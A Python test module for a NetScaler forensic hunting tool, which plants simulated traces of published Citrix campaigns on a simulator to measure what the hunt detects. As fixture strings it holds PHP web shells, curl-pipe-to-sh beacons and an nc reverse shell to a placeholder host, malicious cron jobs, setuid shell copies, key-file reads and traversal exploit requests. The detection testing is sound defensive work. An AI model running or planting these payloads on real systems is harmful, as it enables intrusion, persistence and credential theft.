# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Drawn intrusions and ordinary appliances, and what the hunt says of them.

    python -m tests.intrusions [SEED] [--write]

An intrusion is a few traces of one publicly described campaign. Names, directories and texts are drawn, so that no list of names finds them all; each
trace names who described its kind. It is harmless: the words are there, and do nothing. What a drawn intruder has cleaned up is not planted.
An ordinary appliance has the traces of a month of administrators, users and programs, and of our own verbs.

:data:`UNSEEABLE` was written before the first draw: what NITRO does not show. An intrusion with nothing else counts apart, and its hunt must say what it did
not look at.
"""

from __future__ import annotations

import base64
import gzip
import random
import string
import sys
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

import tests.collection  # isort: skip  # noqa: F401

from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import Examination
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.hunt import Hunt

from simulator import Simulator
from simulator.server.python_api import ApplianceHandle
from tests.hunt_fleet import BUILDS, ENTRIES, Ours
from tests.observing_page import matrix, write_part
from tests.stage.memory import Stage

SEED, INTRUSIONS, ORDINARY = 39, 400, 40
NOTHING, SHELL_ONLY = "nothing found", "seen by a shell only"
UNSEEABLE = (
    "set-user-id program",
    "process",
    "listening port",
    "connection of a process",
    "owner of a file",
    "memory that a request returned",
    "session of a stolen token",
)
"""The traces that NITRO does not show: no owner or mode of a file, no process, no socket; and what the appliance does not log (facts 2.8 and 2.9)."""

WEB = (
    "/var/netscaler/logon/LogonPoint",
    "/var/netscaler/logon/LogonPoint/custom",
    "/var/netscaler/logon/LogonPoint/uiareas/linux",
    "/var/netscaler/gui/vpn/media",
    "/var/netscaler/gui/vpn/images",
    "/var/netscaler/gui/vpn/scripts/linux",
    "/var/netscaler/gui/vpns/help",
    "/var/vpn/theme",
    "/var/vpn/themes",
    "/netscaler/ns_gui/vpn",
    "/netscaler/ns_gui/admin_ui",
    "/netscaler/ns_gui/epa/scripts/mac",
    "/var/ns_gui/shared",
)
"""Directories from which pages are served (list of X1DFIR, TP and M3519)."""
TEMPORARY = ("/var/tmp", "/tmp", "/var/nstmp")
QUIET = ("/var/core", "/nsconfig", "/var/nstmp", "/var/tmp", "/netscaler.local")
"""Directories in which hidden ones were found (lists of autumn 2026)."""
PHP = (
    '<?php @eval($_POST["{}"]);?>\n',
    "<?php system($_REQUEST['{}']); ?>\n",
    "<?php passthru(hex2bin($_POST['{}']));\n",
    "<?php if(isset($_GET['{}'])){{echo shell_exec($_GET['{}']);}} ?>\n",
    "<?php $f=str_rot13('flfgrz');$f($_COOKIE['{}']);\n",
    "<?php @array_filter(array(base64_decode($_POST['{}'])),base64_decode($_POST['x']));\n",
    "<html><body><?= `$_SERVER[HTTP_{}]` ?></body></html>\n",
)
SCRIPTS = (
    "#!/bin/sh\nwhile true; do curl -sk https://192.0.2.66/{} | sh; sleep 3600; done\n",
    "#!/usr/bin/perl\nuse Socket; socket(S,PF_INET,SOCK_STREAM,6); # {}\n",
    "#!/bin/sh\nrm -f /tmp/{}; mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc 192.0.2.66 443 > /tmp/p\n",
    "#!/usr/bin/env python3\nimport socket, subprocess, os  # {}\n",
)
ELF = b"\x7fELF\x02\x01\x01\x09" + bytes(56)
SALTED = b"Salted__" + bytes(range(8, 120))
CONFIGURATION = "#NS13.1 Build 49.15\n# Last modified Tue Oct  6 03:04:05 2026\nset ns config -IPAddress 10.1.1.1\nadd system user u 1234 -encrypted\n"
ACCESS, BASH, NS_LOG = "/var/log/httpaccess.log", "/var/log/bash.log", "/var/log/ns.log"


_T = TypeVar("_T")


class Draw:
    """The chance of one appliance."""

    def __init__(self, seed: str) -> None:
        self.chance = random.Random(seed)

    def one(self, of: tuple[_T, ...]) -> _T:
        return self.chance.choice(of)

    def word(self) -> str:
        return "".join(self.chance.choices(string.ascii_lowercase, k=self.chance.randint(3, 9)))

    def time(self) -> str:
        """Return a night of October 2026, after each firmware here was installed."""
        return f"2026-10-{self.chance.randint(3, 28):02}T0{self.chance.randint(0, 5)}:{self.chance.randint(10, 59)}:07Z"

    def below(self, directory: str, most: int) -> str:
        """Return a directory at most so many levels below."""
        return "/".join([directory, *(self.word() for _level in range(self.chance.randint(0, most)))])

    def text(self, of: tuple[str, ...]) -> str:
        return self.one(of).replace("{}", self.word()).replace("{{", "{").replace("}}", "}")


Plant = Callable[[Draw, ApplianceHandle], None]


@dataclass(frozen=True)
class Trace:
    """One kind of what an intruder leaves.

    :ivar source: who has described it
    """

    name: str
    source: str
    plant: Plant

    @property
    def is_seen(self) -> bool:
        """Return True if NITRO shows it."""
        return self.name not in UNSEEABLE


def _put(box: ApplianceHandle, path: str, content: str | bytes, at: str) -> None:
    data = content.encode() if isinstance(content, str) else content
    box.write_file(path, base64=base64.b64encode(data).decode(), mtime=at)


def _web(endings: tuple[str, ...], texts: tuple[str, ...] = PHP) -> Plant:
    def plant(draw: Draw, box: ApplianceHandle) -> None:
        name = draw.one(("", "", ".")) + draw.word() + draw.one(endings)
        _put(box, f"{draw.below(draw.one(WEB), 4)}/{name}", draw.text(texts), draw.time())

    return plant


def _template(directory: str, text: str, ending: str = ".xml") -> Plant:
    return lambda draw, box: _put(box, f"{directory}/{draw.word()}{ending}", draw.text((text,)), draw.time())


def _staged(draw: Draw, box: ApplianceHandle) -> None:
    content = draw.one((CONFIGURATION.encode(), SALTED, gzip.compress(CONFIGURATION.encode(), mtime=0)))
    _put(box, f"{draw.one(WEB)}/{draw.word()}{draw.one(('.js', '.png', '.css', '.txt'))}", content, draw.time())


def _payload(draw: Draw, box: ApplianceHandle) -> None:
    name = draw.word() + draw.one(("", "", ".sh", ".pl", ".txt"))
    content = draw.one((ELF, *(text.replace("{}", draw.word()).encode() for text in SCRIPTS)))
    _put(box, f"{draw.below(draw.one(TEMPORARY), 1)}/{name}", content, draw.time())


def _hidden(draw: Draw, box: ApplianceHandle) -> None:
    content = draw.one((ELF, b"host=192.0.2.66\nport=443\n", SCRIPTS[0].encode()))
    _put(box, f"{draw.one(QUIET)}/.{draw.word()}/{draw.word()}{draw.one(('', '.pl', '.cfg'))}", content, draw.time())


START = (
    "nohup /var/tmp/.{}/sh >/dev/null 2>&1 &\n",
    "/usr/bin/perl /var/nstmp/{}.pl &\n",
    "python3 -c 'import os' # {}\n",
    "(sleep 60; sh /nsconfig/.{}/run) &\n",
    "curl -sk https://192.0.2.66/{} | sh\n",
)


def _start(draw: Draw, box: ApplianceHandle) -> None:
    path = f"/nsconfig/{draw.one(('rc.netscaler', 'nsbefore.sh', 'nsafter.sh'))}"
    _put(box, path, draw.text(START), draw.time())


JOBS = (
    "*/5 * * * * {}curl -sk https://192.0.2.66/x | sh\n",
    "@reboot {}/var/tmp/.x/httpd\n",
    "0 * * * * {}echo Y3VybCB4 | b64decode -r | sh\n",
    "* * * * * {}/bin/sh /var/nstmp/.a/ci.sh\n",
)


def _job(draw: Draw, box: ApplianceHandle) -> None:
    user = draw.one(("nobody", "root", draw.word()))
    path, has_user = draw.one(((f"/var/cron/tabs/{user}", False), ("/nsconfig/crontab", True), ("/etc/crontab", True)))
    _put(box, path, draw.one(JOBS).replace("{}", f"{user} " if has_user else ""), draw.time())


def _handler(draw: Draw, box: ApplianceHandle) -> None:
    ending = draw.one((".deb", ".ico", ".css", ".sig"))
    lines = (
        "php_flag engine on\n",
        f"AddType application/x-httpd-php {ending}\n",
        f"AddHandler php5-script {ending}\n",
        f"AliasMatch ^/vpn/{draw.word()} /var/tmp/{draw.word()}\n",
    )
    _put(box, draw.one(("/nsconfig/httpd.conf", "/etc/httpd.conf")), f"ServerRoot /\n{draw.one(lines)}", draw.time())


def _key(draw: Draw, box: ApplianceHandle) -> None:
    path = draw.one(("/root/.ssh/authorized_keys", "/nsconfig/ssh/authorized_keys"))
    _put(box, path, f"ssh-rsa AAAAB3Nza {draw.word()}@{draw.word()}\n", draw.time())


def _preload(draw: Draw, box: ApplianceHandle) -> None:
    library = f"/var/tmp/{draw.word()}.so"
    _put(box, library, ELF, draw.time())
    path, text = draw.one(
        (("/etc/libmap.conf", f"libc.so.7 {library}\n"), ("/nsconfig/rc.netscaler", f"export LD_PRELOAD={library}\n"))
    )
    _put(box, path, text, draw.time())


def _history(draw: Draw, box: ApplianceHandle) -> None:
    text = draw.one(
        (
            "cp /bin/sh /var/tmp/sh\nchmod 4775 /var/tmp/sh\n",
            "cat /flash/nsconfig/keys/updated/F2.key\n",
            "wget http://192.0.2.66/l.sh\n",
        )
    )
    _put(box, f"/root/{draw.one(('.history', '.sh_history', '.bash_history'))}", f"ls\n{text}", draw.time())


def _log(path: str, *lines: str) -> Plant:
    """Return a line in a log, or in the part of it that was turned over."""

    def plant(draw: Draw, box: ApplianceHandle) -> None:
        text = draw.one(lines).replace("{}", draw.word())
        number = draw.chance.randint(0, 9)
        if number < 6:
            box.log(path, text)
            return
        content = f"Oct  6 03:00:00 ns newsyslog[14448]: logfile turned over due to size>100K\n{text}\n".encode()
        _put(box, f"{path}.{number}.gz", gzip.compress(content, mtime=0), draw.time())

    return plant


def _shell(*commands: str, user: str = "root", tty: str = "(null)") -> Plant:
    at = "Oct  6 03:40:14 <local7.notice> ns bash[3632]"
    return _log(BASH, *(f'{at}: {user} on {tty} shell_command="{command}"' for command in commands))


def _request(*requests: str, status: int = 200, size: int = 135) -> Plant:
    return _log(
        ACCESS,
        *(
            f'198.51.100.7 -> 192.0.2.8 - - [06/Oct/2026:03:15:29 +0000] [82775] "{one} HTTP/1.1" {status} {size} "-" "Mozilla/5.0" "Time: 6809 microsecs"'
            for one in requests
        ),
    )


def _command(*commands: str, source: str = "127.0.0.1") -> Plant:
    head = "Oct  6 03:00:06 <local0.info> 10.1.1.1 10/06/2026:03:00:06 GMT ns 0-PPE-0 : default CLI CMD_EXECUTED 1 0 : "
    return _log(
        NS_LOG,
        *(
            f'{head} User nsroot - ADM_User NONE - Remote_ip {source} - Command "{one}" - Status "Success"'
            for one in commands
        ),
    )


def _unseen(name: str, source: str, plant: Plant) -> Trace:
    assert name in UNSEEABLE
    return Trace(name, source, plant)


def _owned(**details: Any) -> Plant:
    return lambda draw, box: box.write_file(f"/bin/{draw.word()}", "x", mtime="2026-01-01T00:00:00Z", **details)


def _runs(draw: Draw, box: ApplianceHandle) -> None:
    box.processes([{"user": "nobody", "pid": 1351, "command": f"/var/tmp/{draw.word()}"}])


def _listens(draw: Draw, box: ApplianceHandle) -> None:
    port = draw.one((18634, 9909, 9910, 37512, 41000 + draw.chance.randint(0, 999)))
    box.sockets(
        [{"user": "nobody", "command": "httpd", "pid": 1351, "descriptor": 3, "protocol": "tcp4", "local": f"*:{port}"}]
    )


def _leaves_nothing(_draw: Draw, _box: ApplianceHandle) -> None:
    """A request that returns memory, or the use of a stolen token, is in no log of the appliance."""


WEB_SHELL = Trace("web shell", "CISA AA23-201A, Fox-IT", _web((".php", ".php", ".phtml", ".inc")))
DISGUISED = Trace(
    "web shell with another ending", "TP, NSHUNT 2026", _web((".deb", ".sig", ".ico", ".css", ".js", ".xhtml"))
)
STAGED = Trace("configuration among pages", "CISA AA23-201A, M3519", _staged)
PAYLOAD = Trace("payload in a temporary directory", "FireEye 2020, TP 2026", _payload)
HIDDEN = Trace("hidden directory", "TP, ORJANJ 2026", _hidden)
START_UP = Trace("start-up file", "NCSC-NL 2025, TP 2026", _start)
JOB = Trace("cron job", "FireEye 2020, TP 2026", _job)
HANDLER = Trace("handler of the web server", "NCSC-NL 2025, NSHUNT 2026", _handler)
KEY = Trace("key of SSH", "TP 2026", _key)
PRELOAD = Trace("preloaded library", "issue 39, part 2", _preload)
HISTORY = Trace("history of a shell", "TRIAGE", _history)
AS_NOBODY = Trace(
    "command of nobody", "J81", _shell("uname -a", "id", "curl http://192.0.2.66/{} -o /tmp/{}", user="nobody")
)
SETUID_COMMAND = Trace(
    "command that sets the s bit",
    "TEAR, TP 2026",
    _shell("chmod 6555 /bin/sh", "cp /bin/sh /var/tmp/sh && chmod 4775 /var/tmp/sh", "chmod u+s /var/tmp/{}"),
)
KEYS_READ = Trace(
    "keys read",
    "M3519",
    _shell("cat /flash/nsconfig/keys/updated/F2.key", "openssl des3 -e -in /var/tmp/{}", "ldapsearch -x -h 10.0.0.1"),
)
SUCCESS_2019 = Trace(
    "successful request of 2019",
    "FireEye 2020",
    _request("GET /vpn/../vpns/portal/{}.xml", "POST /vpn/../vpns/portal/scripts/newbm.pl"),
)
SHELL_USED = Trace(
    "request to PHP below the themes", "catalogue-2", _request("POST /vpn/themes/{}.php", "GET /vpn/themes/imgs/{}.php")
)
LARGE_404 = Trace(
    "large 404",
    "NSHUNT 2026",
    _request("GET /vpn/media/{}.ico", "GET /vpn/scripts/linux/{}.deb", status=404, size=71875),
)
ERRORS = Trace(
    "error of a command",
    "FireEye 2020",
    _log(
        "/var/log/httperror.log",
        "chmod: /tmp/.init/httpd: No such file or directory",
        "curl: (7) Failed to connect to 192.0.2.66",
        "  % Total    % Received % Xferd  Average Speed",
    ),
)
CRON_LOG = Trace(
    "job of nobody that ran",
    "FireEye 2020",
    _log("/var/log/cron", "Oct  6 03:00:06 <cron.info> ns /usr/sbin/cron[14451]: (nobody) CMD (sh /var/nstmp/{}.sh)"),
)
VERIEXEC = Trace(
    "unsigned program that ran",
    "page BSV for enhanced security",
    _log(
        "/var/log/messages",
        "Oct  6 03:02:03 <kern.crit> ns kernel: MAC/veriexec: no fingerprint (file=/var/tmp/{} fsid=1 fileid=2 ppid=1 gppid=0)",
    ),
)
NEW_USER = Trace(
    "user made from the appliance itself",
    "NSHUNT 2026",
    _command("add system user {} ********", "bind system user {} superuser 100"),
)
INJECTED = Trace(
    "armed line",
    "TEAR, TP 2026",
    _log(NS_LOG, "Oct  6 03:02:03 <local0.info> 10.1.1.1 nsaaad[1]: call to authenticate user :pitboss NSPPE; {}"),
)
MEMORY = Trace(
    "memory in a log",
    "vendor's one-liner of 2025",
    lambda draw, box: _put(
        box,
        f"{NS_LOG}.{draw.chance.randint(0, 9)}",
        b"Jul  9 01:02:03 <local0.debug> 10.1.1.1 0-PPE-0 : default AAA Message 1 0 : Authentication is rejected for \x80\xfe\x01\n",
        draw.time(),
    ),
)
DOWNLOAD = Trace(
    "file download of 2020",
    "SIGMA",
    _request(
        "POST /rapi/filedownload?filter=path:%2Fetc%2F{}", "POST /pcidss/report?type=allprofiles&sid=loginchallenge"
    ),
)
TEMPLATE = Trace(
    "template",
    "FireEye 2020",
    _template("/netscaler/portal/templates", "[% template.new({'BLOCK'='print `id {}`'}) %]"),
)
COMPILED = Trace("compiled template", "J81", _template("/var/tmp/netscaler/portal/templates", "x {}", ".xml.ttc2"))
BOOKMARK = Trace("bookmark", "FireEye 2020", _template("/var/vpn/bookmark", "<x>[% template.new('{}') %]</x>"))
PORTAL_SCRIPT = Trace(
    "script of the portal",
    "ISC 2020",
    _template("/netscaler/portal/scripts", "#!/usr/bin/perl\nuse CGI; print `$ENV{QUERY}`; # {}\n", ".pl"),
)
SETUID = _unseen("set-user-id program", "TEAR 2026", _owned(mode="6555", owner="root", group="wheel"))
OWNER = _unseen("owner of a file", "M3519", _owned(owner="nobody", group="wheel"))
PROCESS = _unseen("process", "FireEye 2020", _runs)
PORT = _unseen("listening port", "FireEye 2020, TP 2026", _listens)
LEAK = _unseen("memory that a request returned", "Mandiant 2023", _leaves_nothing)
TOKEN = _unseen("session of a stolen token", "Mandiant 2023", _leaves_nothing)

CAMPAIGNS: dict[str, tuple[Trace, ...]] = {
    "2019-19781, FireEye and J81": (
        *(TEMPLATE, COMPILED, BOOKMARK, PORTAL_SCRIPT, PAYLOAD, HIDDEN, JOB, CRON_LOG, AS_NOBODY, SUCCESS_2019, ERRORS, STAGED),
        *(PROCESS, PORT),
    ),
    "2020-8193, SIGMA": (DOWNLOAD, NEW_USER, KEY),
    "2023-3519, CISA and Fox-IT": (WEB_SHELL, STAGED, KEYS_READ, SETUID_COMMAND, AS_NOBODY, PAYLOAD, HISTORY, JOB, SETUID, OWNER, PROCESS),
    "2023-4966 and 2025-5777": (MEMORY, LEAK, TOKEN, NEW_USER),
    "2025-6543, NCSC-NL": (WEB_SHELL, HANDLER, START_UP, PAYLOAD, VERIEXEC, SETUID_COMMAND, SHELL_USED, SETUID),
    "2026-8452, watchTowr": (WEB_SHELL, SHELL_USED, AS_NOBODY, PRELOAD, PROCESS),
    "autumn 2026, lists of the community": (
        *(DISGUISED, HIDDEN, HANDLER, START_UP, JOB, KEY, INJECTED, LARGE_404, STAGED, PRELOAD, NEW_USER, SETUID_COMMAND, VERIEXEC),
        *(SETUID, PORT),
    ),
}  # fmt: skip


# -- ordinary appliances ----------------------------------------------------------------------------------------------


def _saml(draw: Draw, box: ApplianceHandle) -> None:
    box.log(
        "/var/log/httpaccess-vpn.log",
        f"198.51.100.{draw.chance.randint(2, 200)} -> 192.0.2.8 - - [06/Oct/2026:09:15:29 +0000] [82775] "
        '"POST /saml/login HTTP/1.1" 302 135 "https://idp.example.net/" "Mozilla/5.0" "Time: 6809 microsecs"',
    )


def _administrator(draw: Draw, box: ApplianceHandle) -> None:
    for command in (
        "ldapsearch -x -H ldaps://dc.example.net -b dc=example,dc=net",
        "find /var/core -name NSPPE*",
        "df -h",
        "tail -f /var/log/ns.log",
        f"grep {draw.word()} /nsconfig/ns.conf",
    ):
        _shell(command, tty="/dev/pts/0")(draw, box)


def _crash(draw: Draw, box: ApplianceHandle) -> None:
    box.log("/var/log/messages", "Oct  6 03:00:06 <kern.notice> ns pitboss: PPE unexpectedly died")
    _put(
        box,
        f"/var/core/{draw.chance.randint(1, 9)}/NSPPE-00-{draw.chance.randint(100, 9999)}.gz",
        gzip.compress(b"core", mtime=0),
        draw.time(),
    )


def _monitoring(draw: Draw, box: ApplianceHandle) -> None:
    _put(box, "/nsconfig/crontab", f"*/10 * * * * root /nsconfig/monitors/{draw.word()}.pl\n", draw.time())
    box.log("/var/log/cron", "Oct  6 03:01:05 <cron.info> ns /usr/sbin/cron[14605]: (root) CMD (   nsfsyncd -p)")


def _theme(draw: Draw, box: ApplianceHandle) -> None:
    at, name = draw.time(), draw.word()
    for number in range(24):
        _put(
            box, f"/var/netscaler/logon/themes/{name}/resources/file{number}.js", "function show() { return 1; }\n", at
        )
        _put(box, f"/var/netscaler/logon/themes/{name}/css/file{number}.css", ".a { color: #123; }\n", at)


def _clients(draw: Draw, box: ApplianceHandle) -> None:
    at = draw.time()
    for path in (
        "/var/netscaler/gui/vpn/scripts/linux/nsginstaller64.deb",
        "/var/netscaler/gui/vpn/scripts/mac/Citrix_Access_Gateway.dmg",
        "/var/netscaler/gui/epa/scripts/win/nsepa_setup.exe",
    ):
        _put(box, path, b"!<arch>\ndebian-binary   " + bytes(64) if path.endswith(".deb") else b"MZ" + bytes(64), at)


def _backup(draw: Draw, box: ApplianceHandle) -> None:
    _put(box, f"/var/ns_sys_backup/{draw.word()}.tgz", gzip.compress(b"backup", mtime=0), draw.time())
    _command(
        f"create system backup {draw.word()} -level full",
        f"add lb vserver {draw.word()} HTTP 10.1.1.9 80",
        source="10.9.9.9",
    )(draw, box)


def _log_ons(draw: Draw, box: ApplianceHandle) -> None:
    client = f"81.2.69.{draw.chance.randint(2, 200)}"
    box.log(
        NS_LOG,
        "Oct  6 09:00:06 <local0.info> 10.1.1.1 10/06/2026:09:00:06 GMT ns 0-PPE-0 : default SSLVPN LOGIN 12345 0 : "
        f'Context user@{client} - SessionId: 98765 - User user - Client_ip {client} - Nat_ip "Mapped Ip" - Vserver 192.0.2.8:443 - '
        'Browser_type "Mozilla/5.0" - SSLVPN_client_type ICA - Group(s) "users"',
    )


NOISE: tuple[Plant, ...] = (_saml, _administrator, _crash, _monitoring, _theme, _clients, _backup, _log_ons)
UNNOTICED: tuple[Plant, ...] = (_theme, _clients, _backup, _log_ons)
"""The noise in which a hunt finds nothing at all; intrusions have no other, which would be found in their stead."""


# -- the draw ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One drawn appliance.

    :ivar traces: of its intrusion; none where it is ordinary
    """

    number: int
    build: str
    campaign: str
    traces: tuple[Trace, ...]
    noise: tuple[Plant, ...]
    seed: str

    @property
    def is_seen(self) -> bool:
        """Return True if NITRO shows one of its traces."""
        return any(trace.is_seen for trace in self.traces)

    def plant(self, box: ApplianceHandle) -> None:
        draw = Draw(self.seed)
        if self.number % 2:  # the time of the firmware is known
            _put(
                box,
                f"/flash/ns-{self.build.replace(' ', '-')}.gz",
                gzip.compress(b"kernel", mtime=0),
                "2026-08-02T20:15:00Z",
            )
        for plant in (*self.noise, *(trace.plant for trace in self.traces)):
            plant(draw, box)

    def __str__(self) -> str:
        return (
            f"{self.number} ({self.build}; {self.campaign or 'ordinary'}: {', '.join(one.name for one in self.traces)})"
        )


def cases(seed: int = SEED, intrusions: int = INTRUSIONS, ordinary: int = ORDINARY) -> Iterator[Case]:
    """Yield the drawn appliances, the ordinary ones first."""
    for number in range(ordinary + intrusions):
        name = f"{seed}-{number}"
        draw = Draw(name)
        build = BUILDS[number % len(BUILDS)]
        noise = tuple(one for one in (NOISE if number < ordinary else UNNOTICED) if draw.chance.random() < 0.6)
        if number < ordinary:
            yield Case(number, build, "", (), noise, name)
            continue
        campaign = draw.one((*CAMPAIGNS,))
        most = min(3, len(CAMPAIGNS[campaign]))
        traces = tuple(draw.chance.sample(CAMPAIGNS[campaign], draw.chance.randint(1, most)))
        yield Case(number, build, campaign, traces, noise, name)


@dataclass
class Outcomes:
    """What the hunt said of the drawn appliances.

    :ivar missed: the intrusions with "nothing found" though NITRO shows a trace
    :ivar alarms: what was found above review where nothing is wrong
    :ivar silent: the intrusions that NITRO does not show, of which the hunt does not say what it did not look at
    :ivar alone: by the kind of a trace that was the only one that NITRO shows, whether it was found
    """

    matrix: Counter[tuple[str, str]] = field(default_factory=Counter)
    missed: list[str] = field(default_factory=list)
    alarms: list[str] = field(default_factory=list)
    silent: list[str] = field(default_factory=list)
    alone: dict[str, Counter[str]] = field(default_factory=dict)

    def add(self, case: Case, examined: Examination) -> None:
        levels = [str(finding.level) for finding in examined.findings]
        word = next((level for level in ("compromise", "attempt", "review") if level in levels), NOTHING)
        there = "ordinary" if not case.traces else "intrusion" if case.is_seen else SHELL_ONLY
        self.matrix[there, word] += 1
        if there == "ordinary":
            if set(case.noise) <= set(UNNOTICED):
                self.alarms += [f"{case}: {one.level}: {one.where}" for one in examined.findings]
            above = [one for one in examined.findings if one.level in ("compromise", "attempt")]
            self.alarms += [f"{case}: {one.level}: {one.where}: {one.evidence}" for one in above]
            self.alarms += [f"{case}: incomplete: {one}" for one in examined.not_seen if one.is_gap]
            return
        seen = [trace.name for trace in case.traces if trace.is_seen]
        if len(seen) == 1:
            self.alone.setdefault(seen[0], Counter())[word] += 1
        if seen and word == NOTHING:
            self.missed.append(f"{case}, only {NOTHING}")
        if not seen and not examined.not_seen:
            self.silent.append(str(case))

    @property
    def wrong(self) -> list[str]:
        return [*self.missed, *self.alarms, *self.silent]

    def lines(self) -> list[str]:
        return matrix(self.matrix, ("ordinary", "intrusion", SHELL_ONLY), ("compromise", "attempt", "review", NOTHING))

    def kinds(self) -> list[str]:
        """Return by kind of trace how the hunt called it where NITRO showed no other trace."""
        rows = Counter({(name, word): count for name, found in self.alone.items() for word, count in found.items()})
        return matrix(rows, sorted(self.alone), ("compromise", "attempt", "review", NOTHING))


@contextmanager
def _stages() -> Iterator[dict[str, Stage]]:
    boxes = {
        f"box{number}": {"build": build, "nodes": [f"127.0.{number + 1}.1:0"]} for number, build in enumerate(BUILDS)
    }
    with tempfile.TemporaryDirectory() as name, Simulator({"appliances": boxes}) as simulator:
        directory = Path(name)
        directory.chmod(0o700)
        yield {build: Stage(simulator, directory, f"box{number}") for number, build in enumerate(BUILDS)}


def hunts(stride: int = 1, seed: int = SEED) -> Iterator[tuple[Case, Examination]]:
    """Hunt on one of so many of the drawn appliances, and yield each with what was found."""
    with _stages() as stages:
        ours = Ours(next(iter(stages.values())).records)
        for case in [*cases(seed)][::stride]:
            stage = stages[case.build]
            stage.simulator.reset()
            box = stage.simulator.appliance(stage.name)
            ours.leave(box)
            case.plant(box)
            with Connection(stage.appliance) as connection:
                yield case, Hunt(stage.name, ENTRIES, ours.known()).look(connection).examined


def play(stride: int = 1, seed: int = SEED) -> Outcomes:
    """Return what was found on one of so many of the drawn appliances."""
    outcomes = Outcomes()
    for case, examined in hunts(stride, seed):
        outcomes.add(case, examined)
    return outcomes


def report(outcomes: Outcomes, arguments: list[str]) -> int:
    """Print what was found, and write it into its part of the page where that is wanted."""
    print("\n".join([*outcomes.lines(), "", *outcomes.kinds(), "", *outcomes.wrong]))
    if "--write" in arguments and not outcomes.wrong:
        write_part("intrusions", [*outcomes.lines(), "", *outcomes.kinds()])
    return 1 if outcomes.wrong else 0


if __name__ == "__main__":
    given = [one for one in sys.argv[1:] if one.isdigit()]
    sys.exit(report(play(seed=int(given[0]) if given else SEED), sys.argv[1:]))
